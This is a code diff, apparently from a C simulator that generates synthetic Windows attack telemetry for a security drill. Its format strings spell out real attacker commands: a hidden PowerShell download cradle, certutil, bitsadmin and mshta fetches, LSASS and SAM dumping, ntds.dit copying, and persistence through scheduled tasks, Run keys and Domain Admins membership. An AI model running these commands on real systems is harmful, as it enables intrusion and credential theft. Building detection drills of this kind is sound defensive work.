@@ -7,7 +7,7 @@
 #define ENCODED "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAEMATwBMAE8AQQAgAEQAUgBJAEwATAAnAA=="
 
 static const char *url(struct act *a, const char *path) {
-        return say(a->m, "http://%s%s", act_domain(a), path);
+        return tel_say(a->m, "http://%s%s", act_domain(a), path);
 }
 
 static void fetch(struct act *a, const struct proc *p, unsigned port) {
@@ -18,18 +18,18 @@ static void fetch(struct act *a, const struct proc *p, unsigned port) {
 
 static const struct proc *open_document(struct act *a, const char *file) {
         const struct proc *mail = proc_standing(a->m, a->host, PROC_OUTLOOK, a->who);
-        const char *path =
-                say(a->m,
-                    "%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%06X\\%s",
-                    win_home(a), (unsigned)prng_below(&a->rng, 0xffffff), file);
+        const char *path = tel_say(
+                a->m,
+                "%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%06X\\%s",
+                win_home(a), (unsigned)prng_below(&a->rng, 0xffffff), file);
 
         win_file(a, mail, path);
-        act_wait(a, 1500);
+        act_pause(a, 1500);
         const struct proc *w = proc_start(
-                a, mail, WORD, say(a->m, "\"%s\" /n \"%s\" /o \"\"", WORD, path), a->who);
+                a, mail, WORD, tel_say(a->m, "\"%s\" /n \"%s\" /o \"\"", WORD, path), a->who);
         win_file(a, w,
-                 say(a->m, "%s\\AppData\\Roaming\\Microsoft\\Office\\Recent\\%s.LNK", win_home(a),
-                     file));
+                 tel_say(a->m, "%s\\AppData\\Roaming\\Microsoft\\Office\\Recent\\%s.LNK",
+                         win_home(a), file));
         shell_set(a, w);
         return w;
 }
@@ -41,12 +41,12 @@ static void mail_attachment_open(struct act *a) {
 static void office_spawns_script(struct act *a) {
         const char *what = act_text(a, "program");
         const struct proc *w = open_document(a, act_text(a, "file"));
-        const char *script = say(a->m, "%s\\AppData\\Local\\Temp\\thongbao.vbs", win_home(a));
+        const char *script = tel_say(a->m, "%s\\AppData\\Local\\Temp\\thongbao.vbs", win_home(a));
 
-        act_wait(a, 4000);
+        act_pause(a, 4000);
         if (strcmp(what, "mshta") == 0) {
                 shell_set(a, proc_start(a, w, SYS32("mshta.exe"),
-                                        say(a->m, "mshta.exe http://%s/tb.hta", act_domain(a)),
+                                        tel_say(a->m, "mshta.exe http://%s/tb.hta", act_domain(a)),
                                         a->who));
         } else if (strcmp(what, "cmd") == 0) {
                 shell_set(a, proc_start(a, w, SYS32("cmd.exe"), "cmd.exe /c start /b thongbao.bat",
@@ -60,7 +60,7 @@ static void office_spawns_script(struct act *a) {
         } else {
                 win_file(a, w, script);
                 shell_set(a, proc_start(a, w, SYS32("wscript.exe"),
-                                        say(a->m, "wscript.exe //B \"%s\"", script), a->who));
+                                        tel_say(a->m, "wscript.exe //B \"%s\"", script), a->who));
         }
 }
 
@@ -74,11 +74,11 @@ static void powershell_encoded(struct act *a) {
 }
 
 static void download_cradle(struct act *a) {
-        const char *script = say(a->m, "IEX (New-Object Net.WebClient).DownloadString('%s')",
-                                 url(a, act_text(a, "path")));
-        const struct proc *p =
-                proc_start(a, shell_of(a), POWERSHELL,
-                           say(a->m, "powershell.exe -nop -w hidden -c \"%s\"", script), a->who);
+        const char *script = tel_say(a->m, "IEX (New-Object Net.WebClient).DownloadString('%s')",
+                                     url(a, act_text(a, "path")));
+        const struct proc *p = proc_start(
+                a, shell_of(a), POWERSHELL,
+                tel_say(a->m, "powershell.exe -nop -w hidden -c \"%s\"", script), a->who);
         struct eve e = {.kind = EVE_HTTP,
                         .src = a->m->hosts[a->host].address,
                         .dst = act_address(a),
@@ -96,11 +96,11 @@ static void download_cradle(struct act *a) {
 }
 
 static void certutil_download(struct act *a) {
-        const char *to = say(a->m, "C:\\Users\\Public\\%s", act_text(a, "file"));
-        const struct proc *p = proc_start(
-                a, shell_ready(a), SYS32("certutil.exe"),
-                say(a->m, "certutil.exe -urlcache -split -f %s %s", url(a, "/tep/capnhat.dat"), to),
-                a->who);
+        const char *to = tel_say(a->m, "C:\\Users\\Public\\%s", act_text(a, "file"));
+        const struct proc *p = proc_start(a, shell_ready(a), SYS32("certutil.exe"),
+                                          tel_say(a->m, "certutil.exe -urlcache -split -f %s %s",
+                                                  url(a, "/tep/capnhat.dat"), to),
+                                          a->who);
 
         fetch(a, p, 80);
         win_file(a, p, to);
@@ -108,26 +108,26 @@ static void certutil_download(struct act *a) {
 }
 
 static void bitsadmin_download(struct act *a) {
-        const char *to = say(a->m, "C:\\Users\\Public\\%s", act_text(a, "file"));
+        const char *to = tel_say(a->m, "C:\\Users\\Public\\%s", act_text(a, "file"));
 
         proc_run(a, shell_ready(a), SYS32("bitsadmin.exe"),
-                 say(a->m, "bitsadmin /transfer CapNhat /priority FOREGROUND %s %s",
-                     url(a, "/tep/capnhat.dat"), to));
+                 tel_say(a->m, "bitsadmin /transfer CapNhat /priority FOREGROUND %s %s",
+                         url(a, "/tep/capnhat.dat"), to));
         win_file(a, proc_standing(a->m, a->host, PROC_SVCHOST_NETWORK, -1), to);
 }
 
 static void mshta_remote(struct act *a) {
         const struct proc *p =
                 proc_start(a, shell_of(a), SYS32("mshta.exe"),
-                           say(a->m, "mshta.exe %s", url(a, "/bieu-mau.hta")), a->who);
+                           tel_say(a->m, "mshta.exe %s", url(a, "/bieu-mau.hta")), a->who);
 
         fetch(a, p, 80);
 }
 
 static void supply_update(struct act *a) {
         const char *product = act_text(a, "product"), *version = act_text(a, "version");
-        const char *home = say(a->m, "C:\\Program Files\\%s", product);
-        const char *image = say(a->m, "%s\\%sUpdater.exe", home, product);
+        const char *home = tel_say(a->m, "C:\\Program Files\\%s", product);
+        const char *image = tel_say(a->m, "%s\\%sUpdater.exe", home, product);
         struct eve e = {.kind = EVE_TLS,
                         .src = a->m->hosts[a->host].address,
                         .dst = act_address(a),
@@ -136,29 +136,30 @@ static void supply_update(struct act *a) {
                         .a = act_domain(a)};
         const struct proc *p =
                 proc_start(a, proc_standing(a->m, a->host, PROC_SERVICES, -1), image,
-                           say(a->m, "\"%s\" /silent /version=%s", image, version), WHO_SYSTEM);
+                           tel_say(a->m, "\"%s\" /silent /version=%s", image, version), WHO_SYSTEM);
 
         fetch(a, p, 443);
         eve_line(a, &e);
-        act_wait(a, 2500);
-        const char *dll = say(a->m, "C:\\ProgramData\\%s\\%s\\dongbo.dll", product, version);
+        act_pause(a, 2500);
+        const char *dll = tel_say(a->m, "C:\\ProgramData\\%s\\%s\\dongbo.dll", product, version);
         win_file(a, p, dll);
-        act_wait(a, 900);
-        const struct proc *r = proc_start(a, p, SYS32("rundll32.exe"),
-                                          say(a->m, "rundll32.exe %s,KhoiDong", dll), WHO_SYSTEM);
-        act_wait(a, 1500);
+        act_pause(a, 900);
+        const struct proc *r =
+                proc_start(a, p, SYS32("rundll32.exe"),
+                           tel_say(a->m, "rundll32.exe %s,KhoiDong", dll), WHO_SYSTEM);
+        act_pause(a, 1500);
         fetch(a, r, 443);
         proc_end(a, p, 20 * SEC);
 }
 
 static void dll_user_folder(struct act *a) {
         const char *dll =
-                say(a->m, "%s\\AppData\\Local\\Temp\\%s", win_home(a), act_text(a, "file"));
+                tel_say(a->m, "%s\\AppData\\Local\\Temp\\%s", win_home(a), act_text(a, "file"));
 
         win_file(a, shell_of(a), dll);
-        act_wait(a, 1200);
+        act_pause(a, 1200);
         shell_set(a, proc_start(a, shell_of(a), SYS32("rundll32.exe"),
-                                say(a->m, "rundll32.exe %s,DllRegisterServer", dll), a->who));
+                                tel_say(a->m, "rundll32.exe %s,DllRegisterServer", dll), a->who));
 }
 
 /* ---- looking around ---- */
@@ -191,23 +192,23 @@ static void discovery_commands(struct act *a) {
 static void lsass_dump(struct act *a) {
         const char *method = act_text(a, "method");
         const struct proc *lsass = proc_standing(a->m, a->host, PROC_LSASS, -1), *p;
-        const char *file =
-                say(a->m, "C:\\Windows\\Temp\\lsass_%02x.dmp", (unsigned)prng_below(&a->rng, 256));
+        const char *file = tel_say(a->m, "C:\\Windows\\Temp\\lsass_%02x.dmp",
+                                   (unsigned)prng_below(&a->rng, 256));
 
         if (strcmp(method, "procdump") == 0)
                 p = proc_start(a, shell_ready(a), "C:\\Users\\Public\\procdump64.exe",
-                               say(a->m, "procdump64.exe -accepteula -ma lsass.exe %s", file),
+                               tel_say(a->m, "procdump64.exe -accepteula -ma lsass.exe %s", file),
                                a->who);
         else if (strcmp(method, "taskmgr") == 0)
                 p = proc_start(a, shell_of(a), SYS32("Taskmgr.exe"),
                                "\"C:\\Windows\\system32\\taskmgr.exe\" /4", a->who);
         else
-                p = proc_start(
-                        a, shell_ready(a), SYS32("rundll32.exe"),
-                        say(a->m,
-                            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump %u %s full",
-                            lsass->pid, file),
-                        a->who);
+                p = proc_start(a, shell_ready(a), SYS32("rundll32.exe"),
+                               tel_say(a->m,
+                                       "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump "
+                                       "%u %s full",
+                                       lsass->pid, file),
+                               a->who);
         win_access(a, p, lsass, "0x1fffff");
         win_file(a, p, file);
         proc_end(a, p, 2 * SEC);
@@ -218,12 +219,12 @@ static void sam_hive_save(struct act *a) {
         const struct proc *sh = shell_ready(a);
 
         for (unsigned i = 0; i < ARRAY_LEN(hives); i++) {
-                act_wait(a, 900);
+                act_pause(a, 900);
                 const struct proc *p =
                         proc_run(a, sh, SYS32("reg.exe"),
-                                 say(a->m, "reg save hklm\\%s C:\\Windows\\Temp\\%s.hiv", hives[i],
-                                     hives[i]));
-                win_file(a, p, say(a->m, "C:\\Windows\\Temp\\%s.hiv", hives[i]));
+                                 tel_say(a->m, "reg save hklm\\%s C:\\Windows\\Temp\\%s.hiv",
+                                         hives[i], hives[i]));
+                win_file(a, p, tel_say(a->m, "C:\\Windows\\Temp\\%s.hiv", hives[i]));
         }
 }
 
@@ -232,7 +233,7 @@ static void ntds_copy(struct act *a) {
                 a, shell_ready(a), SYS32("ntdsutil.exe"),
                 "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ad\" q q");
 
-        act_wait(a, 6000);
+        act_pause(a, 6000);
         win_file(a, p, "C:\\Windows\\Temp\\ad\\Active Directory\\ntds.dit");
 }
 
@@ -258,14 +259,15 @@ static void run_command(struct act *a) {
         image[n] = 0;
         if (parent && *parent)
                 p = proc_start(a, proc_standing(a->m, a->host, PROC_SERVICES, -1), parent,
-                               say(a->m, "\"%s\"", parent), a->who);
+                               tel_say(a->m, "\"%s\"", parent), a->who);
         bool path = strchr(image, '\\') != NULL, dot = strchr(image, '.') != NULL;
         proc_run(a, p,
-                 say(a->m, "%s%s%s",
-                     path                                    ? ""
-                     : strncmp(image, "powershell", 10) == 0 ? SYS32("WindowsPowerShell\\v1.0\\")
-                                                             : SYS32(""),
-                     image, dot ? "" : ".exe"),
+                 tel_say(a->m, "%s%s%s",
+                         path ? ""
+                         : strncmp(image, "powershell", 10) == 0
+                                 ? SYS32("WindowsPowerShell\\v1.0\\")
+                                 : SYS32(""),
+                         image, dot ? "" : ".exe"),
                  cmd);
 }
 
@@ -277,13 +279,14 @@ static void scheduled_task(struct act *a) {
         struct win w;
 
         proc_run(a, shell_ready(a), SYS32("schtasks.exe"),
-                 say(a->m, "schtasks /create /tn \"%s\" /tr \"%s\" /sc minute /mo 30 /ru SYSTEM /f",
-                     name, what));
+                 tel_say(a->m,
+                         "schtasks /create /tn \"%s\" /tr \"%s\" /sc minute /mo 30 /ru SYSTEM /f",
+                         name, what));
         win_open(&w, a->m, a->host, SEC_TASK, a->at);
         if (w.off)
                 return;
         win_subject(&w, a->who);
-        win_set(&w, "TaskName", say(a->m, "\\%s", name));
+        win_set(&w, "TaskName", tel_say(a->m, "\\%s", name));
         win_set(&w, "TaskContent",
                 "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<Task version=\"1.2\" "
                 "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\n  <Triggers>\n  "
@@ -298,17 +301,17 @@ static void scheduled_task(struct act *a) {
 }
 
 static void run_key(struct act *a) {
-        const struct proc *p =
-                proc_start(a, shell_ready(a), SYS32("reg.exe"),
-                           say(a->m,
-                               "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "
-                               "%s /t REG_SZ /d \"wscript.exe C:\\Users\\Public\\capnhat.vbs\" /f",
-                               act_text(a, "value")),
-                           a->who);
+        const struct proc *p = proc_start(
+                a, shell_ready(a), SYS32("reg.exe"),
+                tel_say(a->m,
+                        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "
+                        "%s /t REG_SZ /d \"wscript.exe C:\\Users\\Public\\capnhat.vbs\" /f",
+                        act_text(a, "value")),
+                a->who);
 
         win_value(a, p,
-                  say(a->m, "HKU\\%s\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\%s",
-                      who_sid(a->m, a->host, a->who), act_text(a, "value")),
+                  tel_say(a->m, "HKU\\%s\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\%s",
+                          who_sid(a->m, a->host, a->who), act_text(a, "value")),
                   "wscript.exe C:\\Users\\Public\\capnhat.vbs");
         proc_end(a, p, 200 * MS);
 }
@@ -324,11 +327,11 @@ static void user_event(struct act *a, enum win_id id, const char *name) {
                 return;
         win_subject(&w, a->who);
         win_set(&w, "TargetUserName", name);
-        win_set(&w, "TargetDomainName", upper(a->m, a->m->hosts[a->host].name));
+        win_set(&w, "TargetDomainName", tel_upper(a->m, a->m->hosts[a->host].name));
         win_set(&w, "TargetSid",
-                say(a->m, "S-1-5-21-%u-%u-%u-1003", a->m->hosts[a->host].machine,
-                    (unsigned)a->m->hosts[a->host].key,
-                    a->m->hosts[a->host].machine ^ 0x5a5a5a5au));
+                tel_say(a->m, "S-1-5-21-%u-%u-%u-1003", a->m->hosts[a->host].machine,
+                        (unsigned)a->m->hosts[a->host].key,
+                        a->m->hosts[a->host].machine ^ 0x5a5a5a5au));
         for (unsigned i = 0; id == SEC_USER && i < ARRAY_LEN(unset); i++)
                 win_set(&w, unset[i], "%%1793");
         if (id == SEC_USER) {
@@ -346,17 +349,17 @@ static void user_event(struct act *a, enum win_id id, const char *name) {
 
 /* net.exe starts net1.exe, as it does. */
 static void net(struct act *a, const char *args) {
-        const struct proc *p =
-                proc_start(a, shell_ready(a), SYS32("net.exe"), say(a->m, "net %s", args), a->who);
+        const struct proc *p = proc_start(a, shell_ready(a), SYS32("net.exe"),
+                                          tel_say(a->m, "net %s", args), a->who);
 
-        proc_run(a, p, SYS32("net1.exe"), say(a->m, "C:\\Windows\\system32\\net1 %s", args));
+        proc_run(a, p, SYS32("net1.exe"), tel_say(a->m, "C:\\Windows\\system32\\net1 %s", args));
         proc_end(a, p, 400 * MS);
 }
 
 static void new_account(struct act *a) {
         const char *name = act_text(a, "name");
 
-        net(a, say(a->m, "user %s DienTap-KhongThat1 /add", name));
+        net(a, tel_say(a->m, "user %s DienTap-KhongThat1 /add", name));
         user_event(a, SEC_USER, name);
         a->at += 2 * MS;
         user_event(a, SEC_USER_ENABLED, name);
@@ -367,23 +370,23 @@ static void group_add(struct act *a) {
         bool dc = a->m->p->hosts[a->host].kind == HOST_DC;
         struct win w;
 
-        net(a, say(a->m,
-                   dc ? "group \"Domain Admins\" %s /add /domain"
-                      : "localgroup administrators %s /add",
-                   name));
+        net(a, tel_say(a->m,
+                       dc ? "group \"Domain Admins\" %s /add /domain"
+                          : "localgroup administrators %s /add",
+                       name));
         win_open(&w, a->m, a->host, dc ? SEC_GLOBAL_MEMBER : SEC_LOCAL_MEMBER, a->at);
         if (w.off)
                 return;
         win_subject(&w, a->who);
         win_set(&w, "MemberSid",
-                say(a->m, "S-1-5-21-%u-%u-%u-1003", a->m->hosts[a->host].machine,
-                    (unsigned)a->m->hosts[a->host].key,
-                    a->m->hosts[a->host].machine ^ 0x5a5a5a5au));
+                tel_say(a->m, "S-1-5-21-%u-%u-%u-1003", a->m->hosts[a->host].machine,
+                        (unsigned)a->m->hosts[a->host].key,
+                        a->m->hosts[a->host].machine ^ 0x5a5a5a5au));
         win_set(&w, "TargetUserName", dc ? "Domain Admins" : "Administrators");
         win_set(&w, "TargetDomainName", dc ? a->m->netbios : "Builtin");
         win_set(&w, "TargetSid",
-                dc ? say(a->m, "%.*s512", (int)(strlen(who_sid(a->m, a->host, 0)) - 4),
-                         who_sid(a->m, a->host, 0))
+                dc ? tel_say(a->m, "%.*s512", (int)(strlen(who_sid(a->m, a->host, 0)) - 4),
+                             who_sid(a->m, a->host, 0))
                    : "S-1-5-32-544");
         win_write(&w);
 }
